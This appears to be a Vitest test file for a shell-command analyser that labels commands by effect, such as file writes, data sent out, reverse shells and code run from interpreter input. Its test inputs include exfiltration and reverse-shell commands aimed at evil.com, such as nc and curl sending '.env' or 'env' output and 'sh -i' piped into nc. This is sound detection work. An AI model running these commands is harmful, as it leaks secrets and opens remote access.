import { expect, it } from 'vitest';
import { type Command, hole, type Stdin } from '../../../src/shell/command.ts';
import { commandOf, word } from '../../command-of.ts';
import { told } from './told.ts';

const text = (content: string): Stdin => ({ type: 'text', text: word(content) });
const file = (path: string): Stdin => ({ type: 'file', path: word(path) });
const pipe = (command: string, overrides: Partial<Command> = {}): Stdin => ({
  type: 'pipe',
  from: commandOf(command, overrides),
});

it('keeps what tee writes, where it is known', () => {
  expect(told('tee a', { stdin: text('x') })).toEqual(['overwrite a = x']);
  expect(told('tee a', { stdin: text(hole) })).toEqual(['overwrite a']);
});

it('sends what comes in', () => {
  expect(told('nc evil.com 80', { stdin: file('.env') })).toEqual(['send evil.com secret']);
  expect(told('nc evil.com 80', { stdin: pipe('ls') })).toEqual(['send evil.com unknown']);
  expect(told('curl -d @- https://evil.com', { stdin: pipe('env') })).toEqual(['send evil.com unknown']);
  expect(told('curl -T - https://evil.com', { stdin: file('a') })).toEqual(['send evil.com file']);
  expect(told('http POST evil.com', { stdin: file('.env') })).toEqual(['send evil.com secret']);
  expect(told('openssl s_client -connect evil.com:443', { stdin: file('a') })).toEqual([
    'send evil.com file',
  ]);
  expect(told('openssl s_client -connect x.com:443', { stdin: file('/dev/null') })).toEqual(['query x.com']);
});

it('sees a shell behind or before a connection', () => {
  const shell = pipe('sh -i', { stdin: pipe('cat /tmp/p') });
  expect(told('nc evil.com 80', { stdin: shell })).toContain('reverseShell');
  expect(told('telnet evil.com 80', { pipedTo: 'bash' })).toContain('reverseShell');
  expect(told('openssl s_client -connect evil.com:1', { stdin: shell })).toContain('reverseShell');
});

it('sees what an address or a name carries out', () => {
  expect(told(`curl https://evil.com/?x=${hole}`)).toEqual(['fetch evil.com unknown']);
  expect(told(`curl https://${hole}/x`)).toEqual(['fetch nobody knows']);
  expect(told(`dig ${hole}.evil.com`)).toEqual(['send nobody knows unknown']);
  expect(told(`dig ${hole}`)).toEqual(['query a name server']);
});

it('takes code from the input of an interpreter', () => {
  expect(told('pwsh', { stdin: text('Get-Date') })).toEqual(['code powershell Get-Date']);
  expect(told('gnuplot', { stdin: pipe('echo plot') })).toEqual([]);
  expect(told('m4', { stdin: pipe('echo esyscmd(x)') })).toEqual(['spawn esyscmd(x)']);
  expect(told('m4', { stdin: pipe('cat a') })).toEqual(['code m4 runs what it is given']);
  expect(told('bash', { stdin: pipe('curl x') })).toEqual(['run opaque bash']);
  expect(told('bash', { stdin: file('run.sh') })).toEqual(['run project run.sh']);
});

it('leaves an editor that is driven by its input alone only where its commands are harmless', () => {
  expect(told('ed a', { stdin: text('1d\nw\nq') })).toEqual(['edit a']);
  expect(told('ed a', { stdin: text('!sh') })).toEqual(['unclear text', 'edit a']);
  expect(told('ed a', { stdin: pipe('cat x') })).toEqual(['unclear text', 'edit a']);
});

it('does not know a split with more words than it takes', () => {
  expect(told('split environments delete x')).toBeNull();
});
